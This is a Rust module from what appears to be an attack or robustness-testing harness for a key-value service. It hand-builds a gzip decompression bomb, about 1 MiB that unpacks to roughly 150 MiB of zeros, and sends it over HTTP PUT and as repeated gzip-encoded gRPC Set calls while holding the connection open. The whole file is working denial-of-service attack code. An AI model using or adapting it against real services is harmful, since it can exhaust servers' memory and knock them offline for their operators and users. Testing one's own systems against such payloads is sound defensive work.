//! Little that unpacks to much.

use std::io;
use std::sync::OnceLock;

use tokio::io::{AsyncWriteExt, split};

use super::frames::{END_STREAM, stream};
use super::grpc;
use super::http1::{drain, head};
use super::http2::begin;
use super::plan::Plan;
use super::wire::Wire;

/// Packed: 150 MiB of zeros.
const PACKED_BYTES: usize = 1 << 20;

/// Calls on one connection.
const CALLS: u32 = 4;

pub(super) async fn rest(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let bomb = gzip();
    let more = format!(
        "Content-Encoding: gzip\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
        bomb.len()
    );
    let (reading, mut writing) = split(wire);
    let sending = async {
        let head = head("PUT", "/v1/keys/bomb", &more);
        writing.write_all(head.as_bytes()).await?;
        writing.write_all(bomb).await?;
        plan.count_stroke();
        std::future::pending().await
    };
    tokio::select! {
        ended = drain(reading, plan.clone()) => ended,
        ended = sending => ended,
    }
}

pub(super) async fn grpc(wire: Wire, plan: Plan, _: usize) -> io::Result<()> {
    let (reading, mut writing) = begin(wire, &plan, &[]).await?;
    let message = grpc::framed(true, gzip());
    let sending = async {
        for next in 0..CALLS {
            let packed = [("grpc-encoding", "gzip")];
            let mut frames = grpc::call(stream(next), "/dkv.v1.Kv/Set", &packed);
            frames.extend(grpc::data(stream(next), END_STREAM, &message));
            writing.write_all(&frames).await?;
            plan.count_stroke();
        }
        std::future::pending().await
    };
    reading.while_doing(sending).await
}

/// Zeros, packed to so many bytes (RFC 1951 and 1952). There is no checksum at the end: who
/// unpacks it all has done the harm by then.
fn gzip() -> &'static [u8] {
    static PACKED: OnceLock<Vec<u8>> = OnceLock::new();
    PACKED.get_or_init(|| {
        // One block with the fixed codes: a zero, and then, again and again, 258 bytes from one
        // byte back, at 13 bits each.
        let begun = [1, 1, 0, 0, 0, 1, 1, 0, 0, 0, 0];
        let again = [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0];
        let mut bits = begun.into_iter().chain(again.into_iter().cycle());
        let mut packed = vec![0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 255];
        while packed.len() < PACKED_BYTES {
            // From the lowest bit on.
            packed.push((0..8).fold(0, |byte, at| byte | bits.next().unwrap_or(0) << at));
        }
        packed
    })
}
